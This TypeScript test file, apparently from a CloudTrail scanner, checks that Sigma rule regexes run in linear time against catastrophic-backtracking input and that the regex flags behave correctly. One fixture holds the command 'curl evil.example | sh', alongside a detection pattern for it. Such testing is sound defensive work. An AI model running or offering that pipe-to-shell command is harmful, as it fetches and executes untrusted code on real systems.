// Regular expressions from rule files run in linear time (rules/sigma/regex.ts, re2js): a rule
// pattern that would backtrack exponentially in JavaScript's RegExp, matched against attacker text
// from a CloudTrail field, is an ordinary non-match. The `timeout` on each test is a hang guard,
// not a speed target; the figures are in the report of the change.
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { compileLinearRegex, compileRule, parseSigmaRules } from '../../shared/cloudtrail/rules/sigma/index.ts';
import type { SigmaEvent } from '../../shared/cloudtrail/rules/sigma/index.ts';

function matcher(detection: string): (event: SigmaEvent) => boolean {
  const text = `title: t\nlogsource: {product: aws, service: cloudtrail}\ndetection:\n${detection
    .split('\n')
    .map((l) => `  ${l}`)
    .join('\n')}\n`;
  const { rules, problems } = parseSigmaRules(text, 'inline.yml');
  assert.deepEqual(problems, []);
  return compileRule(rules[0]!);
}

// 100k characters an attacker controls (a User-Agent, a session name, a bucket policy), ending so
// that a backtracking engine must try every way of splitting the run before it gives up.
const attack = `${'a'.repeat(100_000)}!`;
const GUARD = { timeout: 20_000 };

describe('linear-time regular expressions (issue: no hostile input hangs a scan)', () => {
  for (const pattern of ['^(a|a)+$', '^(a+)+$', '^(a|aa)+$', '(x+x+)+y', '^(\\w+\\s?)*$']) {
    test(`|re '${pattern}' against 100k characters of attacker text is a plain non-match`, GUARD, () => {
      const rule = matcher(`sel:\n  userAgent|re: '${pattern}'\ncondition: sel`);
      assert.equal(rule({ userAgent: attack }), false);
      assert.equal(rule({ userAgent: 'a'.repeat(20) }), /x|y|!/.test(pattern) ? false : true);
    });
  }

  test('a wildcard value with many `*` (also compiled to a regular expression) cannot backtrack', GUARD, () => {
    const rule = matcher("sel:\n  userAgent: '*a*a*a*a*a*a*a*a*a*a*b'\ncondition: sel");
    assert.equal(rule({ userAgent: attack }), false);
    assert.equal(rule({ userAgent: 'xaaaaaaaaaab' }), true);
  });

  test('a keyword regex over the whole event is linear too', GUARD, () => {
    const rule = matcher("keywords:\n  '|re': '^(a|a)+$'\ncondition: keywords");
    assert.equal(rule({ eventName: 'X', requestParameters: { a: attack, b: attack } }), false);
  });
});

describe('modifiers appendix v2.1, "Regular Expression": flags i, m, s', () => {
  test('case-sensitive by default; |i makes it insensitive', () => {
    assert.equal(matcher("sel:\n  userAgent|re: '^boto3/'\ncondition: sel")({ userAgent: 'Boto3/1.34' }), false);
    assert.equal(matcher("sel:\n  userAgent|re|i: '^boto3/'\ncondition: sel")({ userAgent: 'Boto3/1.34' }), true);
  });

  test('|m: ^ and $ match at line breaks', () => {
    const text = { requestParameters: { script: 'echo hi\ncurl evil.example | sh\n' } };
    assert.equal(matcher("sel:\n  requestParameters.script|re: '^curl .*\\| sh$'\ncondition: sel")(text), false);
    assert.equal(matcher("sel:\n  requestParameters.script|re|m: '^curl .*\\| sh$'\ncondition: sel")(text), true);
  });

  test('|s: the dot matches a newline', () => {
    const text = { requestParameters: { script: 'BEGIN\nsecret\nEND' } };
    assert.equal(matcher("sel:\n  requestParameters.script|re: 'BEGIN.*END'\ncondition: sel")(text), false);
    assert.equal(matcher("sel:\n  requestParameters.script|re|s: 'BEGIN.*END'\ncondition: sel")(text), true);
  });

  test('flags combine, and inline (?i) as in PCRE and RE2 is understood', () => {
    const rule = matcher("sel:\n  requestParameters.script|re|i|s: 'begin.*end'\ncondition: sel");
    assert.equal(rule({ requestParameters: { script: 'BEGIN\nEND' } }), true);
    assert.equal(matcher("sel:\n  userAgent|re: '(?i)^BOTO3'\ncondition: sel")({ userAgent: 'boto3/1' }), true);
  });

  test('the engine itself: unknown flags and unsupported syntax are errors, never a silent mismatch', () => {
    assert.throws(() => compileLinearRegex('a', 'x'), /unknown regular expression flag/);
    assert.throws(() => compileLinearRegex('(?=a)b'), /invalid|missing|unexpected/i);
  });
});
